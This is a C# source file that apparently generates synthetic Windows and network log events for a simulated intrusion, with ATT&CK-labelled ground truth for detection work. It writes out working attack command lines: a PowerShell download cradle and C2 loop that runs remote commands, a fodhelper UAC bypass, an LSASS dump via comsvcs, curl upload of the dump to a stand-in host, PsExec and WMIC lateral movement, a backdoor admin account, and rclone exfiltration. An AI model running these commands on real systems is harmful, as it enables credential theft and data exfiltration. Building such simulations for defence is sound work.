using System.Globalization;
using System.Text;

namespace Vigil.Simulation;

/// <summary>
/// The human-operated intrusion: a macro document mailed to an ordinary user starts an encoded PowerShell
/// stager; the operator runs discovery, bypasses UAC, dumps LSASS (which holds an IT admin's credentials
/// from a helpdesk session that morning), moves to the file server with PsExec and creates a backdoor
/// local admin there, moves to the SQL server with WMI, exports customer tables, packs them with a
/// password and sends them out with rclone. Tool command lines follow the real tools' syntax. Each event
/// is labelled (ATT&amp;CK technique and tactic) only in truth.json.
/// </summary>
internal sealed class Intrusion
{
    public const string C2Ip = "203.0.113.45";
    public const string ExfilIp = "198.51.100.23";
    private const string Sys32 = "C:\\Windows\\system32\\";
    private const string Ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    private const string SqlCmd = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE";
    private const string Bcp = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\bcp.exe";

    private readonly World _w;
    private readonly Rng _r;
    private long _t;
    private readonly Company _co;
    private Account _createdAccount = null!;

    private Intrusion(World w, Rng r) { _w = w; _r = r; _co = w.Co; }

    public static Intrusion Schedule(World w, int seed, SimulationTruth truth)
    {
        var i = new Intrusion(w, Rng.For(seed, "intrusion"));
        i.Build(truth);
        return i;
    }

    private void Step(string technique, string tactic, string what, Action body) =>
        _w.Labelled(new Label("intrusion", technique, tactic, what), body);

    /// <summary>Advances the operator's clock by a human pause (seconds).</summary>
    private long Wait(int minSeconds, int maxSeconds)
    {
        _t += _r.Range(minSeconds * 1000, maxSeconds * 1000);
        return _t;
    }

    private static string Enc(string script) => Convert.ToBase64String(Encoding.Unicode.GetBytes(script));

    private void Build(SimulationTruth truth)
    {
        var ws = _co.Victim;
        var user = ws.PrimaryUser!;
        var admin = _co.Admins[0]; // logged on to ws at 09:05 (helpdesk RDP): credentials cached in LSASS
        string adminPassword = "Harbor#Light" + _r.Range(10, 99).ToString(CultureInfo.InvariantCulture);
        _t = (10 * 60 + 20) * 60_000L + _r.Next(40 * 60_000);

        truth.CompromisedHosts.AddRange([ws.Fqdn, _co.FileServer.Fqdn, _co.Sql.Fqdn]);
        truth.CompromisedAccounts.AddRange([user.Qualified, admin.Qualified]);
        truth.FootholdIp = ws.Ip;
        truth.FootholdIps.Add(ws.Ip);
        truth.ExternalIps.AddRange([C2Ip, ExfilIp]);

        // 1. Phishing attachment arrives and is opened.
        string doc = $"{"C:\\Users\\"}{user.Name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{Background.OutlookCacheDir(ws)}\\Invoice_INV-2026-{_r.Range(1000, 9999)}.docm";
        Step("T1566.001", "initial-access", "spearphishing attachment saved", () => _w.FileCreate(_t, ws.Outlook!, doc));
        Proc word = null!;
        Step("T1204.002", "execution", "user opens macro document", () =>
            word = _w.Spawn(Wait(20, 70), ws.Outlook!, Setup.Office + "WINWORD.EXE", $"\"{Setup.Office}WINWORD.EXE\" /n \"{doc}\" /o \"\"",
                cwd: $"C:\\Users\\{user.Name}\\Documents\\"));

        // 2. Macro starts an encoded PowerShell download cradle; the stager beacons to the C2 server.
        string cradle = $"IEX (New-Object Net.WebClient).DownloadString('https://{C2Ip}/s/upd.ps1')";
        string stage2 = $"$s='https://{C2Ip}/s';while($true){{try{{$c=(Invoke-WebRequest \"$s/t\" -UseBasicParsing).Content;if($c){{$o=(Invoke-Expression $c 2>&1|Out-String);Invoke-WebRequest \"$s/r\" -Method POST -Body $o -UseBasicParsing|Out-Null}}}}catch{{}};Start-Sleep -Seconds (Get-Random -Minimum 4 -Maximum 9)}}";
        string stagerCmd = $"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {Enc(cradle)}";
        Proc implant = null!;
        Step("T1059.001", "execution", "Office macro spawns encoded PowerShell", () =>
        {
            implant = _w.Spawn(Wait(6, 15), word, Ps, stagerCmd);
            _w.Script4104(_t + 700, implant, cradle);
            _w.Script4104(_t + 1900, implant, stage2);
        });
        Step("T1071.001", "command-and-control", "stager connects to C2", () => _w.Net(_t + 1200, implant, C2Ip, 443));

        // 3. Discovery at the pace of a person typing into a remote shell.
        Discovery(implant, ws);

        // 4. UAC bypass (fodhelper / ms-settings) for a high-integrity implant.
        Proc elevated = null!;
        string regKey = "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command";
        Step("T1548.002", "privilege-escalation", "UAC bypass via fodhelper ms-settings hijack", () =>
        {
            var r1 = _w.Spawn(Wait(120, 300), implant, Sys32 + "reg.exe", $"\"{Sys32}reg.exe\" add {regKey} /d \"{stagerCmd}\" /f");
            _w.RegistrySet(_t + 40, r1, $"HKU\\{user.Sid}_Classes\\ms-settings\\Shell\\Open\\command\\(Default)", stagerCmd);
            var r2 = _w.Spawn(Wait(3, 9), implant, Sys32 + "reg.exe", $"\"{Sys32}reg.exe\" add {regKey} /v DelegateExecute /t REG_SZ /f");
            _w.RegistrySet(_t + 40, r2, $"HKU\\{user.Sid}_Classes\\ms-settings\\Shell\\Open\\command\\DelegateExecute", "(Empty)");
            var fod = _w.Spawn(Wait(4, 12), implant, Sys32 + "fodhelper.exe", $"\"{Sys32}fodhelper.exe\" ");
            elevated = _w.Spawn(_t + 600, fod, Ps, stagerCmd, integrity: "High");
            _w.Script4104(_t + 1500, elevated, cradle);
        });
        Step("T1071.001", "command-and-control", "elevated stager connects to C2", () => _w.Net(_t + 1300, elevated, C2Ip, 443));
        Step("T1070", "defense-evasion", "remove UAC bypass key", () =>
            _w.Spawn(Wait(20, 60), elevated, Sys32 + "reg.exe", $"\"{Sys32}reg.exe\" delete HKCU\\Software\\Classes\\ms-settings /f"));

        // 5. LSASS dump with comsvcs.dll, then the dump goes out over the C2 channel.
        string dump = $"C:\\Users\\Public\\Documents\\wct{_r.Hex(4).ToUpperInvariant()}.tmp";
        Step("T1057", "discovery", "find the LSASS process id", () =>
            _w.Spawn(Wait(40, 150), elevated, Sys32 + "tasklist.exe", $"\"{Sys32}tasklist.exe\" /fi \"imagename eq lsass.exe\""));
        Step("T1003.001", "credential-access", "LSASS memory dump via comsvcs MiniDump", () =>
        {
            var rd = _w.Spawn(Wait(30, 90), elevated, "C:\\Windows\\System32\\rundll32.exe",
                $"\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll, MiniDump {ws.Lsass.Pid} {dump} full");
            _w.ProcessAccess(_t + 150, rd, ws.Lsass, "0x1FFFFF",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3a8f1|C:\\Windows\\System32\\rundll32.exe+3bc4|C:\\Windows\\System32\\KERNEL32.DLL+17034|C:\\Windows\\SYSTEM32\\ntdll.dll+52651");
            _w.FileCreate(_t + 210, rd, dump);
        });
        Step("T1041", "exfiltration", "LSASS dump uploaded to C2 with curl", () =>
        {
            var curl = _w.Spawn(Wait(60, 200), elevated, Sys32 + "curl.exe", $"\"{Sys32}curl.exe\" -s -k -T {dump} https://{C2Ip}/s/u");
            _w.Net(_t + 300, curl, C2Ip, 443, flow: new Flow { OrigBytes = 48_213_504 + 2_400, RespBytes = 5_800, DurationMs = 21_000, State = "SF" });
        });
        Beacons(elevated, _t, _t + 5 * 3_600_000L / 2);

        // Long pause: the dump is parsed offline and the operator decides on the next phase.
        Wait(25 * 60, 50 * 60);

        // 6. PsExec with the stolen admin credentials to the file server.
        string psexec = "C:\\Users\\Public\\Documents\\PsExec64.exe";
        Step("T1105", "command-and-control", "download PsExec", () =>
        {
            _w.Script4104(_t, elevated, $"Invoke-WebRequest -Uri https://{C2Ip}/s/p64.exe -OutFile {psexec} -UseBasicParsing");
            _w.Net(_t + 200, elevated, C2Ip, 443, flow: new Flow { OrigBytes = 1_900, RespBytes = 833_472, DurationMs = 1_600, State = "SF" });
            _w.FileCreate(_t + 1800, elevated, psexec);
        });
        var fs = _co.FileServer;
        Proc remoteShell = null!;
        Step("T1021.002", "lateral-movement", "PsExec to file server with stolen admin account", () =>
        {
            var px = _w.Spawn(Wait(30, 120), elevated, psexec, $"{psexec}  \\\\{fs.Name} -accepteula -s -u CORP\\{admin.Name} -p {adminPassword} cmd.exe",
                cwd: "C:\\Users\\Public\\Documents\\");
            _w.Explicit4648(_t + 100, px, admin, fs.Name, fs.Name);
            _w.Tgt4768(_t + 150, admin, ws.Ip);
            _w.Tgs4769(_t + 190, admin, fs.Machine.Name, ws.Ip);
            _w.Net(_t + 220, px, fs.Ip, 445);
            var l = _w.Logon4624(_t + 260, fs, admin, 3, ws.Ip, "-");
            _w.Share5140(_t + 300, fs, l, "ADMIN$", "\\??\\C:\\Windows", ws.Ip);
            _w.Share5145(_t + 320, fs, l, "ADMIN$", "\\??\\C:\\Windows", "PSEXESVC.exe", "0x2", ws.Ip);
            var system = new Proc
            {
                Host = fs, Guid = fs.NewProcessGuid(-86_400_000), Pid = 4, Image = "System", CommandLine = "", Logon = fs.SystemLogon,
                Integrity = "System", CurrentDirectory = "",
            };
            _w.FileCreate(_t + 340, system, "C:\\Windows\\PSEXESVC.exe");
            _w.Share5145(_t + 420, fs, l, "IPC$", "", "svcctl", "0x12019f", ws.Ip);
            _w.Service7045(_t + 470, fs, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
            var svc = _w.Spawn(_t + 520, fs.Services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", integrity: "System");
            _w.Share5145(_t + 700, fs, l, "IPC$", "", $"PSEXESVC-{ws.Name}-{px.Pid}-stdin", "0x12019f", ws.Ip);
            remoteShell = _w.Spawn(_t + 760, svc, "C:\\Windows\\System32\\cmd.exe", "\"cmd.exe\" ", integrity: "System", cwd: "C:\\Windows\\system32\\");
        });
        Step("T1135", "discovery", "list shares on the file server", () =>
            _w.Spawn(Wait(15, 60), remoteShell, Sys32 + "net.exe", "net  share"));

        // 7. Backdoor local administrator on the file server.
        _createdAccount = new Account { Name = "helpdesk_svc", Domain = fs.Name, Sid = fs.LocalSidPrefix + "-1003" };
        truth.CreatedAccounts.Add(fs.Name + "\\" + _createdAccount.Name);
        string backdoorPassword = "Rk7!vT" + _r.Range(10, 99).ToString(CultureInfo.InvariantCulture) + "qLm";
        Step("T1136.001", "persistence", "create local account", () =>
        {
            var net = _w.Spawn(Wait(40, 120), remoteShell, Sys32 + "net.exe", $"net  user {_createdAccount.Name} {backdoorPassword} /add");
            _w.Spawn(_t + 30, net, Sys32 + "net1.exe", $"C:\\Windows\\system32\\net1  user {_createdAccount.Name} {backdoorPassword} /add");
            _w.UserCreated4720(_t + 90, fs, fs.SystemLogon, _createdAccount);
            _w.UserEnabled4722(_t + 95, fs, fs.SystemLogon, _createdAccount);
        });
        Step("T1098", "persistence", "add account to local Administrators", () =>
        {
            var net = _w.Spawn(Wait(10, 40), remoteShell, Sys32 + "net.exe", $"net  localgroup administrators {_createdAccount.Name} /add");
            _w.Spawn(_t + 30, net, Sys32 + "net1.exe", $"C:\\Windows\\system32\\net1  localgroup administrators {_createdAccount.Name} /add");
            _w.GroupMemberAdded(_t + 80, fs, fs.SystemLogon, _createdAccount, 4732, "Administrators", "Builtin", "S-1-5-32-544");
        });

        // 8. WMI process creation on the SQL server.
        var sql = _co.Sql;
        Proc sqlImplant = null!;
        Step("T1047", "lateral-movement", "WMI remote process creation on SQL server", () =>
        {
            var wm = _w.Spawn(Wait(5 * 60, 15 * 60), elevated, "C:\\Windows\\System32\\wbem\\WMIC.exe",
                $"wmic  /node:{sql.Name} /user:CORP\\{admin.Name} /password:{adminPassword} process call create \"{stagerCmd}\"");
            _w.Explicit4648(_t + 80, wm, admin, sql.Name, sql.Name);
            _w.Tgs4769(_t + 120, admin, sql.Machine.Name, ws.Ip);
            _w.Net(_t + 150, wm, sql.Ip, 135);
            var l = _w.Logon4624(_t + 260, sql, admin, 3, ws.Ip, "-");
            sqlImplant = _w.Spawn(_t + 900, sql.WmiPrvSE, Ps, stagerCmd, logon: l, integrity: "High");
            _w.Script4104(_t + 1700, sqlImplant, cradle);
        });
        Step("T1071.001", "command-and-control", "SQL server stager connects to C2", () => _w.Net(_t + 1500, sqlImplant, C2Ip, 443));
        Beacons(sqlImplant, _t + 2000, _t + 3_600_000L);

        // 9. Collection from the customer database.
        Step("T1213", "collection", "enumerate databases", () =>
            _w.Spawn(Wait(60, 180), sqlImplant, SqlCmd, $"\"{SqlCmd}\" -S localhost -E -Q \"SELECT name FROM sys.databases\""));
        Step("T1005", "collection", "export customer table with sqlcmd", () =>
        {
            var q = _w.Spawn(Wait(40, 120), sqlImplant, SqlCmd, $"\"{SqlCmd}\" -S localhost -E -d SalesDB -Q \"SELECT * FROM dbo.Customers\" -s \",\" -W -o C:\\ProgramData\\c.csv");
            _w.FileCreate(_t + 400, q, "C:\\ProgramData\\c.csv");
        });
        Step("T1005", "collection", "export payments table with bcp", () =>
        {
            var b = _w.Spawn(Wait(30, 90), sqlImplant, Bcp, $"\"{Bcp}\" \"SELECT * FROM SalesDB.dbo.Payments\" queryout C:\\ProgramData\\p.dat -c -T -S localhost");
            _w.FileCreate(_t + 500, b, "C:\\ProgramData\\p.dat");
        });
        string archive = "C:\\ProgramData\\wsus_sync.7z";
        Step("T1560.001", "collection", "password-protected 7-Zip archive", () =>
        {
            var z = _w.Spawn(Wait(40, 150), sqlImplant, "C:\\Program Files\\7-Zip\\7z.exe",
                $"\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z -mhe=on -pQx!{_r.Range(100, 999)}vLr {archive} C:\\ProgramData\\c.csv C:\\ProgramData\\p.dat");
            _w.FileCreate(_t + 3000, z, archive);
        });

        // 10. Exfiltration with rclone over SFTP to an external server.
        Step("T1105", "command-and-control", "download rclone", () =>
        {
            _w.Script4104(Wait(60, 180), sqlImplant, $"Invoke-WebRequest -Uri https://{C2Ip}/s/rc.zip -OutFile C:\\ProgramData\\rc.zip -UseBasicParsing; Expand-Archive C:\\ProgramData\\rc.zip -DestinationPath C:\\ProgramData -Force");
            _w.Net(_t + 200, sqlImplant, C2Ip, 443, flow: new Flow { OrigBytes = 2_100, RespBytes = 21_448_310, DurationMs = 9_300, State = "SF" });
            _w.FileCreate(_t + 4000, sqlImplant, "C:\\ProgramData\\rclone.exe");
            _w.FileCreate(_t + 4100, sqlImplant, "C:\\ProgramData\\rc.conf");
        });
        Step("T1048", "exfiltration", "rclone copy to external SFTP server", () =>
        {
            var rc = _w.Spawn(Wait(30, 120), sqlImplant, "C:\\ProgramData\\rclone.exe",
                $"C:\\ProgramData\\rclone.exe copy {archive} remote:incoming --config C:\\ProgramData\\rc.conf --transfers 4 --no-check-certificate -q");
            // rclone --transfers 4: four SFTP streams carrying the archive (hundreds of MB in all) to a new address;
            // sizes come from the sensor's stream so that the Windows events do not depend on the network logs.
            for (int i = 0; i < 4; i++)
                _w.Net(_t + 400 + i * 50, rc, ExfilIp, 22,
                    flow: _w.Sensor is { } s ? Flow.Upload(s.Rng.Range(110, 190), s.Rng.Range(300, 900), "ssh") : null);
        });
        Step("T1070.004", "defense-evasion", "delete staged files", () =>
            _w.Spawn(Wait(120, 400), sqlImplant, "C:\\Windows\\System32\\cmd.exe",
                $"\"C:\\Windows\\system32\\cmd.exe\" /c del /f /q C:\\ProgramData\\c.csv C:\\ProgramData\\p.dat {archive} C:\\ProgramData\\rclone.exe C:\\ProgramData\\rc.conf C:\\ProgramData\\rc.zip"));
    }

    private void Discovery(Proc implant, Host ws)
    {
        var cmds = new (string Tech, string Exe, string Args, string? Net1)[]
        {
            ("T1033", "whoami.exe", "/all", null),
            ("T1069.002", "net.exe", "group \"domain admins\" /domain", "group \"domain admins\" /domain"),
            ("T1018", "nltest.exe", "/dclist:corp.example", null),
            ("T1082", "systeminfo.exe", "", null),
            ("T1016", "ipconfig.exe", "/all", null),
            ("T1016", "ARP.EXE", "-a", null),
            ("T1069.001", "net.exe", "localgroup administrators", "localgroup administrators"),
        };
        long t0 = Wait(180, 420);
        _t = t0;
        foreach (var c in cmds)
        {
            Step(c.Tech, "discovery", "discovery: " + Path.GetFileNameWithoutExtension(c.Exe).ToLowerInvariant(), () =>
            {
                string cmdLine = $"\"{Sys32}{c.Exe}\"" + (c.Args.Length > 0 ? " " + c.Args : "");
                var p = _w.Spawn(Wait(8, 75), implant, "C:\\Windows\\System32\\" + c.Exe, cmdLine);
                if (c.Net1 is not null) _w.Spawn(_t + 25, p, Sys32 + "net1.exe", "C:\\Windows\\system32\\net1 " + c.Net1);
            });
        }
    }

    private void Beacons(Proc implant, long from, long to)
    {
        Step("T1071.001", "command-and-control", "C2 beacon", () =>
        {
            for (long t = from + _r.Range(240_000, 540_000); t < to; t += _r.Range(240_000, 540_000))
                _w.Net(t, implant, C2Ip, 443);
        });
    }
}
